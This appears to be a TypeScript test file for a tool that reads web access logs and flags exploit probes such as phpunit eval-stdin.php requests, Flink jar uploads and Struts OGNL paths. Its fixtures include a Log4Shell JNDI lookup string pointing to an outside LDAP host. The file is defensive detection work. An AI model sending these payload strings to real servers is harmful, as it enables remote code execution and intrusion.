import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { isoMicros } from "../../../src/bytes/time.ts";
import { dataPath } from "../../kit/data.ts";
import { ofKind, type ReadOne, readOne } from "../../kit/read-one.ts";

const told = (found: ReadOne) =>
  ofKind(found, "request").map(
    ({ exploit, client, method, target, status, times }) =>
      `${exploit} ${client} ${method} ${target} ${status} ×${times}`,
  );

test("alike requests are one record with its first and last time", async () => {
  const lines = ["19:31:16 +0000", "19:31:20 +0000", "20:31:10 +0100"].map(
    (time) => `203.0.113.9 - - [13/Jan/2026:${time}] "POST /jars/upload HTTP/1.1" 404 12 "-" "x"`,
  );
  const ordinary = '203.0.113.9 - - [13/Jan/2026:19:40:00 +0000] "GET / HTTP/1.1" 200 12 "-" "x"';
  const found = await readOne([...lines, ordinary, ""].join("\n"));
  assert.equal(found.reader, "access-log");
  assert.deepEqual(told(found), ["flink 203.0.113.9 POST /jars/upload 404 ×3"]);
  const [request] = ofKind(found, "request");
  assert.equal(isoMicros(request?.atMicros ?? 0), "2026-01-13T19:31:10.000000Z");
  assert.equal(isoMicros(request?.lastMicros ?? 0), "2026-01-13T19:31:20.000000Z");
  assert.equal(isoMicros(found.summary?.lastMicros ?? 0), "2026-01-13T19:40:00.000000Z");
  assert.equal(request?.place.line, 1);
});

test("a line of nothing but quotes and backslashes takes no time", async () => {
  const line = '203.0.113.9 - - [13/Jan/2026:19:31:16 +0000] "POST /jars/upload HTTP/1.1" 404 12 "-" ';
  for (const rest of ['"\\'.repeat(32_000), ' \\"'.repeat(20_000)]) {
    const started = performance.now();
    assert.equal(told(await readOne(`${line}${rest}\n`)).length, 1);
    assert.ok(performance.now() - started < 3000);
  }
});

test("a pause of more than ten minutes begins another record", async () => {
  const at = (time: string) =>
    `203.0.113.9 - - [13/Jan/2026:${time} +0000] "POST /jars/upload HTTP/1.1" 404 12 "-" "x"`;
  const near = await readOne([at("19:00:00"), at("19:10:00"), at("18:50:00")].join("\n"));
  assert.deepEqual(told(near), ["flink 203.0.113.9 POST /jars/upload 404 ×3"]);
  const far = await readOne([at("19:00:00"), at("19:10:01")].join("\n"));
  assert.deepEqual(told(far).length, 2);
});

test("status, client and method tell requests apart; the twenty-first target does not", async () => {
  const when = "[13/Jan/2026:19:31:16 +0000]";
  const line = (client: string, status: number, target: string) =>
    `www.example:443 ${client} - ann ${when} "GET ${target} HTTP/1.1" ${status} - "-" "x"`;
  const targets = Array.from({ length: 22 }, (_, n) => line("203.0.113.9", 404, `/${n}/eval-stdin.php`));
  const found = await readOne([...targets, line("203.0.113.10", 200, "/eval-stdin.php")].join("\n"));
  const requests = told(found);
  assert.equal(requests.length, 22);
  assert.equal(requests[20], "phpunit 203.0.113.9 GET (other targets) 404 ×2");
  assert.equal(requests[21], "phpunit 203.0.113.10 GET /eval-stdin.php 200 ×1");
});

test("a line with a mark that is no request is a gap, and quotes in fields are kept", async () => {
  const when = "[13/Jan/2026:19:31:16 +0000]";
  const lines = [
    `203.0.113.9 - - ${when} "GET / HTTP/1.1" 200 5 "-" "a \\"b\\" \${jndi:ldap://203.0.113.7/a}"`,
    "eval-stdin.php is not a request",
    `203.0.113.9 - - ${when} "\\x16\\x03\\x01" 400 5 "-" "-" "body \\x22\${jndi:x}"`,
  ];
  const found = await readOne(lines.join("\n"));
  assert.deepEqual(told(found), [
    "log4shell 203.0.113.9 GET / 200 ×1",
    "log4shell 203.0.113.9 null \\x16\\x03\\x01 400 ×1",
  ]);
  assert.deepEqual(
    found.gaps.map(({ code, count }) => `${code} ${count}`),
    ["malformed-line 1"],
  );
});

test("the samples of Apache and of AWS' load balancers are known, and hold one request", async (t) => {
  const spans = {
    "apache_access.log": ["2015-05-17", "2021-04-25"],
    "aws_elb_access.log": ["2020-01-11", "2021-05-13"],
  };
  for (const [name, span] of Object.entries(spans)) {
    const path = dataPath(`host/plaso/${name}`);
    if (path === null) return t.skip("needs ../shared/data/host beside the checkout");
    const found = await readOne(readFileSync(path));
    assert.equal(found.reader, "access-log");
    const target = '/$%7B("TextString"+"123456")%7D/actionChain1.action';
    assert.deepEqual(told(found), name.startsWith("aws") ? [] : [`struts-ognl 1.2.3.4 GET ${target} 404 ×1`]);
    const { firstMicros, lastMicros } = found.summary ?? {};
    assert.deepEqual(
      [firstMicros, lastMicros].map((micros) => isoMicros(micros ?? 0).slice(0, 10)),
      span,
    );
    assert.deepEqual(found.gaps, []);
  }
});

test("a balancer's line has the client's address without its port, and the path of its URL", async () => {
  const line =
    "https 2026-01-11T16:55:20.356586Z app/www/f1 203.0.113.9:44325 192.0.2.4:80 " +
    "0.013 0.164 0.000 200 200 391 1079 " +
    '"GET https://www.example:443/vendor/eval-stdin.php HTTP/1.1" "curl/8" - - arn "Root=1" "www.example"';
  assert.deepEqual(told(await readOne(line)), ["phpunit 203.0.113.9 GET /vendor/eval-stdin.php 200 ×1"]);
  const classic =
    "2026-01-11T16:55:20.356586Z www 203.0.113.9:44325 - -1 -1 -1 503 0 0 0 " +
    '"GET http://www.example:80/eval-stdin.php HTTP/1.1" "curl/8" - -';
  assert.deepEqual(told(await readOne(classic)), ["phpunit 203.0.113.9 GET /eval-stdin.php 503 ×1"]);
});

test("a web server that logs to syslog is read, on the host that the line names", async () => {
  const line =
    "Jan 13 19:31:16 web01 nginx: 203.0.113.9 - - [13/Jan/2026:19:31:16 +0000] " +
    '"GET /eval-stdin.php HTTP/1.1" 404 5 "-" "x"';
  const found = await readOne(`${line}\n`);
  assert.equal(found.reader, "syslog");
  assert.deepEqual(
    ofKind(found, "request").map(({ exploit, hostname, clock }) => `${exploit} ${hostname} ${clock}`),
    ["phpunit web01 utc"],
  );
});
